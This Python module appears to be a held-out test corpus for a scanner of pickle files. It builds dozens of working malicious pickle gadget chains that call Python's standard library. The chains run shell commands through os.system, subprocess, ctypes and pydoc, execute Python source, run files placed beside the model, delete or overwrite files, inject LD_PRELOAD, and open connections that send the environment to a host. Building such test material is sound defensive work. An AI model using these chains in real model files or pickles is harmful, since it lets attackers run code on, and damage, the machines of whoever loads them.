"""Held-out attacks: pickles that call what Python itself brings along. Written without looking at the scanner."""

# ruff: noqa: E501 (one attack a line)
from __future__ import annotations

import io
import pickle
import zipfile
from collections.abc import Iterator

from corpora.unseen_units import (
    CALL,
    MARK,
    NAME,
    OUTSIDE,
    PICKLE,
    PORT,
    STATE,
    TOUCH,
    URL,
    WRITE,
    Attack,
    Raw,
    build,
    call,
    name,
    new,
    op,
    pickled,
)

SH = ["/bin/sh", "-c", TOUCH]


def _zip(**members: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for key, text in members.items():
            archive.writestr(zipfile.ZipInfo(key.replace("__", ".")), text)
    return out.getvalue()


def _system_by(getter: Raw) -> Raw:
    return call(getter, TOUCH)


def programs() -> Iterator[Attack]:
    """Callables that start programs."""
    table = {
        "pydoc-pipepager": ("pydoc.pipepager pipes a text into a command", call("pydoc:pipepager", "text", TOUCH)),
        "pydoc-tempfilepager": (
            "pydoc.tempfilepager runs a pager of choice",
            call("pydoc:tempfilepager", "x", TOUCH + ";"),
        ),
        "imaplib-stream": ("imaplib.IMAP4_stream starts its command", call("imaplib:IMAP4_stream", TOUCH)),
        "uuid-command": (
            "uuid's finder of MAC addresses runs a program",
            call("uuid:_get_command_stdout", "touch", MARK),
        ),
        "posix-spawn": ("posix.posix_spawn", call("posix:posix_spawn", "/bin/sh", SH, {})),
        "os-spawnl-dotted": ("spawnvp through the os that shutil imported", call("shutil:os.spawnvp", 0, "sh", SH)),
        "pty-spawn": ("pty.spawn", call("pty:spawn", ["touch", MARK])),
        "spawnv-passfds": (
            "multiprocessing.util.spawnv_passfds forks and executes",
            call("multiprocessing.util:spawnv_passfds", b"/bin/sh", SH, op(())),
        ),
        "script-helper": (
            "the standard library's own test package starts an interpreter",
            call("test.support.script_helper:assert_python_ok", "-c", WRITE),
        ),
        "distutils-spawn": ("distutils.spawn.spawn", call("distutils.spawn:spawn", ["touch", MARK])),
        "distutils-archive": (
            "distutils makes a tar through programs",
            call("distutils.dir_util:mkpath", MARK),
        ),
        "mailcap-test": (
            "mailcap runs an entry's test command while it looks for a match",
            call("mailcap:findmatch", {"a/b": [{"test": TOUCH, "view": "x"}]}, "a/b"),
        ),
        "pipes-template": (
            "pipes.Template builds and runs a shell pipeline",
            call(
                "pipes:Template.copy",
                build(call("pipes:Template"), {"steps": [[TOUCH, "--"]]}),
                "/dev/null",
                "/dev/null",
            ),
        ),
        "asyncio-shell": (
            "asyncio.run of a coroutine that starts a shell",
            call("asyncio:run", call("asyncio:create_subprocess_shell", TOUCH)),
        ),
        "popen-newobj-init": (
            "object.__new__ makes an empty Popen; its __init__ is called by its dotted name",
            call("subprocess:Popen.__init__", new("subprocess:Popen"), SH),
        ),
        "ctypes-libc": (
            "the C library's system(), through getattr of a ctypes.CDLL",
            call(call("builtins:getattr", call("ctypes:CDLL", "libc.so.6"), "system"), TOUCH.encode()),
        ),
        "ctypes-pythonapi": (
            "PyRun_SimpleString through ctypes.pythonapi's __getitem__",
            call(call("ctypes:PyDLL.__getitem__", name("ctypes:pythonapi"), "PyRun_SimpleString"), WRITE.encode()),
        ),
        "webbrowser": (
            "a browser of choice is a program of choice",
            call("webbrowser:GenericBrowser.open", call("webbrowser:GenericBrowser", ["touch", MARK]), "x"),
        ),
        "ensurepip": ("installs pip into a folder of choice", call("ensurepip:_main", ["--root", MARK])),
        "venv-create": ("writes a virtual environment", call("venv:create", MARK)),
    }
    for what, (does, body) in table.items():
        yield pickled("pickle-programs", what, does, body)


def code() -> Iterator[Attack]:
    """Callables that run Python source."""
    bdb = call("bdb:Bdb")
    state = {"version": 1, "handlers": {"h": {"()": "os.system", "command": TOUCH}}}
    ini = f"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=FileHandler\nargs=({WRITE}.name,)\n"
    table = {
        "timeit": ("timeit runs its statement", call("timeit:timeit", WRITE, "pass", name("time:perf_counter"), 1)),
        "interpreter": (
            "code.InteractiveInterpreter.runsource",
            call("code:InteractiveInterpreter.runsource", call("code:InteractiveInterpreter"), WRITE),
        ),
        "profile": ("profile.run executes a statement", call("profile:run", WRITE)),
        "cprofile-runctx": ("cProfile.Profile.runctx", call("cProfile:Profile.runctx", call("cProfile:Profile"), WRITE, {}, {})),
        "bdb-run": ("the debugger's base class runs a statement", call("bdb:Bdb.runeval", bdb, WRITE)),
        "trace-run": ("trace.Trace.run", call("trace:Trace.run", call("trace:Trace", 0, 0), WRITE)),
        "runpy-code": ("runpy._run_code executes a compiled source", call("runpy:_run_code", call("builtins:compile", WRITE, "x", "exec"), {})),
        "compile-eval": ("builtins.eval of builtins.compile", call("builtins:eval", call("builtins:compile", WRITE, "", "eval"))),
        "function-type": ("types.FunctionType of compiled source, called", call(call("types:FunctionType", call("builtins:compile", WRITE, "", "exec"), {"open": name("builtins:open")}))),
        "forward-ref": (
            "typing evaluates the text of a forward reference",
            call("typing:ForwardRef._evaluate", call("typing:ForwardRef", WRITE), {}, {}, call("builtins:frozenset")),
        ),
        "dataclass-create-fn": (
            "dataclasses executes the source of the function that it makes",
            call("dataclasses:_create_fn", "f", [f"a={WRITE}"], ["pass"]),
        ),
        "logging-factory": ("a logging configuration names os.system as the factory of a handler", call("logging.config:dictConfig", state)),
        "logging-ini": ("logging evaluates the arguments of a handler", call("logging.config:fileConfig", call("io:StringIO", ini))),
        "operator-call": ("operator.call hands over arguments", call("operator:call", name("os:system"), TOUCH)),
        "call-with-frames-removed": ("importlib's own trampoline", call("_frozen_importlib:_call_with_frames_removed", name("os:system"), TOUCH)),
        "context-run": ("contextvars.Context.run", call("contextvars:Context.run", call("contextvars:Context"), name("os:system"), TOUCH)),
        "methodcaller": (
            "operator.methodcaller on the os module out of sys.modules",
            call(call("operator:methodcaller", "system", TOUCH), call(call("operator:itemgetter", "os"), name("sys:modules"))),
        ),
        "pkgutil-resolve": ("pkgutil.resolve_name", _system_by(call("pkgutil:resolve_name", "os:system"))),
        "logging-resolve": (
            "logging's configurator resolves names",
            _system_by(call("logging.config:BaseConfigurator.resolve", call("logging.config:BaseConfigurator", {}), "os.system")),
        ),
        "unpickler-find-class": (
            "pickle's own find_class",
            _system_by(call("pickle:_Unpickler.find_class", call("pickle:_Unpickler", call("io:BytesIO")), "os", "system")),
        ),
        "pydoc-locate": ("pydoc.locate imports by name", _system_by(call("pydoc:locate", "os.system"))),
        "partial-deque": (
            "a map over os.system is used up by a deque",
            call("collections:deque", call("builtins:map", name("os:system"), [TOUCH])),
        ),
        "groupby": ("itertools.groupby calls its key, list() uses it up", call("builtins:list", call("itertools:groupby", [TOUCH], name("os:system")))),
        "accumulate": (
            "itertools.accumulate calls a function of two arguments, list() uses it up",
            call("builtins:list", call("itertools:accumulate", ["/bin/touch", ["touch", MARK]], name("os:execv"))),
        ),
        "work-item": (
            "a thread pool's work item runs its function",
            call(
                "concurrent.futures.thread:_WorkItem.run",
                build(new("concurrent.futures.thread:_WorkItem"), {"future": call("concurrent.futures:Future"), "fn": name("os:system"), "args": (TOUCH,), "kwargs": {}}),
            ),
        ),
        "atexit": ("runs when the process ends, long after the scan of what was loaded", call("atexit:register", name("os:system"), TOUCH)),
        "finalize": ("weakref.finalize runs at the end of the process", call("weakref:finalize", name("os:system"), name("os:system"), TOUCH)),
        "exit-stack": (
            "an ExitStack's callback runs when it is closed",
            build_exit_stack(),
        ),
        "timer": ("a thread starts it a moment after loading", call("threading:Timer.start", call("threading:Timer", 0.05, name("os:system"), (TOUCH,)))),
        "thread": ("_thread.start_new_thread", call("_thread:start_new_thread", name("os:system"), (TOUCH,))),
        "function-test-case": (
            "unittest calls the function of a test case",
            call("unittest:TestCase.debug", call("unittest:FunctionTestCase", call("functools:partial", name("os:system"), TOUCH))),
        ),
        "lib2to3-grammar": ("lib2to3 unpickles a grammar out of bytes", call("lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), pickle.dumps({"x": 1}, 0)[:-1] + b"0cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR.")),
    }  # fmt: skip
    for what, (does, body) in table.items():
        rules = NAME if what in {"atexit", "finalize"} else CALL
        after = "; import time; time.sleep(0.3) # Timer" if what in {"timer", "thread"} else ""
        yield pickled("pickle-code", what, does, body, rules=rules, call=PICKLE + after)


def build_exit_stack() -> Raw:
    stack = call("contextlib:ExitStack")
    # MEMOIZE keeps the stack, the callback's result is dropped, the kept stack is closed
    kept = Raw(stack + b"q\x07")
    return Raw(
        call("contextlib:ExitStack.callback", kept, name("os:system"), TOUCH)
        + b"0"
        + call("contextlib:ExitStack.close", Raw(b"h\x07"))
    )


def beside() -> Iterator[Attack]:
    """Callables that run a second file that lies in the same folder."""
    payload = {"payload.py": (WRITE + "\n").encode()}
    doc = f">>> f = {WRITE}\n".encode()
    table = {
        "site-pth": ("site runs the import lines of .pth files", call("site:addsitedir", "."), {"evil.pth": f"import os; {WRITE}\n".encode()}),
        "runpy-path": ("runpy.run_path", call("runpy:run_path", "payload.py"), payload),
        "source-loader": (
            "importlib's loader executes a file",
            call("importlib.machinery:SourceFileLoader.load_module", call("importlib.machinery:SourceFileLoader", "x", "payload.py")),
            payload,
        ),
        "zipimporter": (
            "zipimport executes a module inside a zip file",
            call("zipimport:zipimporter.load_module", call("zipimport:zipimporter", "w.bin"), "m"),
            {"w.bin": _zip(m__py=WRITE)},
        ),
        "doctest-file": ("doctest runs the examples of a text", call("doctest:testfile", "notes.txt", False), {"notes.txt": doc}),
        "import-neighbour": ("the name's module lies beside the model; importing it runs it", name("payload:Model"), {"payload.py": (WRITE + "\nclass Model: pass\n").encode()}),
        "shelve": ("a shelf unpickles what is asked for", call("shelve:DbfilenameShelf.__getitem__", call("shelve:DbfilenameShelf", "s"), "k"), _dumb()),
        "config-parser": ("a program's own settings are read from the model's folder", call("logging.config:fileConfig", "log.ini"), {"log.ini": f"[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=FileHandler\nargs=({WRITE}.name,)\n".encode()}),
        "pygments-lexer": ("pygments executes a lexer's file", call("pygments.lexers:load_lexer_from_file", "payload.py"), payload),
        "test-loader": ("unittest's loader calls what a name leads to", call("unittest:TestLoader.loadTestsFromName", call("unittest:TestLoader"), "payload.Model"), {"payload.py": f"def Model():\n    {WRITE}\n".encode()}),
        "sax-parser": ("xml.sax imports the parser's module by name", call("xml.sax:make_parser", ["payload"]), payload),
        "compile-file": ("py_compile writes a file of choice", call("py_compile:compile", "payload.py", MARK), payload),
    }  # fmt: skip
    for what, (does, body, files) in table.items():
        rules = NAME if what == "import-neighbour" else CALL
        yield pickled("pickle-beside", what, does, body, rules=rules | {"model-path-traversal"}, beside=files)


def _dumb() -> dict[str, bytes]:
    """A dbm.dumb database with one pickled value."""
    value = b"cos\nsystem\n(S'" + TOUCH.encode() + b"'\ntR."
    return {"s.dat": value, "s.dir": f"'k', (0, {len(value)})\n".encode(), "s.bak": b""}


def files_and_network() -> Iterator[Attack]:
    """Callables that change files outside or open connections."""
    canary = f"{OUTSIDE}/canary.txt"
    table = {
        "rmtree": ("deletes a folder", call("shutil:rmtree", OUTSIDE)),
        "path-write": ("pathlib.Path.write_text by its dotted name", call("pathlib:Path.write_text", call("pathlib:PosixPath", MARK), "x")),
        "path-unlink": ("pathlib.Path.unlink", call("pathlib:Path.unlink", call("pathlib:PosixPath", canary))),
        "file-io": ("_io.FileIO empties a file when it is made", call("_io:FileIO", canary, "w")),
        "pyio-open": ("_pyio.open, the pure-Python twin of open", call("_pyio:open", MARK, "w")),
        "gzip-class": ("gzip.GzipFile opens for writing", call("gzip:GzipFile", MARK, "w")),
        "zip-class": ("zipfile.ZipFile opens for writing", call("zipfile:ZipFile", MARK, "w")),
        "log-handler": ("logging.FileHandler creates its file", call("logging:FileHandler", MARK)),
        "sqlite": ("sqlite3.connect creates a database", call("sqlite3:connect", MARK)),
        "dbm": ("dbm.dumb creates a database", call("dbm.dumb:open", MARK, "n")),
        "mailbox": ("mailbox.Maildir makes folders", call("mailbox:Maildir", MARK)),
        "symlink": ("os.symlink plants a link", call("os:symlink", "/etc/passwd", MARK)),
        "rename": ("os.replace moves a file over another", call("os:replace", canary, MARK)),
        "linecache": ("reads a file through linecache into the model", call("linecache:getlines", canary)),
        "codecs-open": ("codecs.open truncates", call("codecs:open", canary, "w")),
        "mkdtemp": ("tempfile.mkdtemp plants a folder", call("tempfile:mkdtemp", "", "MARK", "/tmp")),
        "urlopen": ("urllib fetches an address", call("urllib.request:urlopen", URL)),
        "socket": ("socket.create_connection", call("socket:create_connection", ("127.0.0.1", PORT))),
        "smtp": ("smtplib.SMTP connects when it is made", call("smtplib:SMTP", "127.0.0.1", PORT)),
        "http-request": ("http.client sends a request", call("http.client:HTTPConnection.request", call("http.client:HTTPConnection", "127.0.0.1", PORT), "GET", "/x")),
        "log-http": ("logging sends the environment to a host", call("logging.handlers:HTTPHandler.emit", call("logging.handlers:HTTPHandler", f"127.0.0.1:{PORT}", "/"), call("logging:makeLogRecord", {}))),
        "connection-client": ("multiprocessing.connection.Client: what it receives is unpickled", call("multiprocessing.connection:Client", ("127.0.0.1", PORT))),
        "environment": ("os.putenv's twin: os.environ is changed in place", Raw(name("os:environ") + op("LD_PRELOAD") + op("/tmp/x.so") + b"s")),
        "module-path": ("the search path of imports is extended by APPEND on sys.path", Raw(name("sys:path") + op("/tmp/CANARY-7f3a") + b"a")),
        "modules-table": ("json is replaced in sys.modules by SETITEM", Raw(name("sys:modules") + op("json") + op("CANARY-7f3a") + b"s")),
    }  # fmt: skip
    shows = {
        "environment": "; import os; print('CANARY-7f3a' * (os.environ.get('LD_PRELOAD') == '/tmp/x.so'))",
        "module-path": "; import sys; print(sys.path)",
        "modules-table": "; import sys; print(sys.modules['json'])",
        "linecache": "",
    }
    for what, (does, body) in table.items():
        in_place = what in {"environment", "module-path", "modules-table"}
        load = f"import pickle; x = pickle.load(open(F, 'rb')){shows.get(what, '')}"
        load += "; print(x)" if what == "linecache" else ""
        rules = (STATE if in_place else CALL) | {"model-path-traversal", "model-external-data"} - (
            {"model-path-traversal", "model-external-data"} if in_place else set()
        )
        yield pickled("pickle-files-network", what, does, body, rules=rules, call=load)


def attacks() -> Iterator[Attack]:
    yield from programs()
    yield from code()
    yield from beside()
    yield from files_and_network()
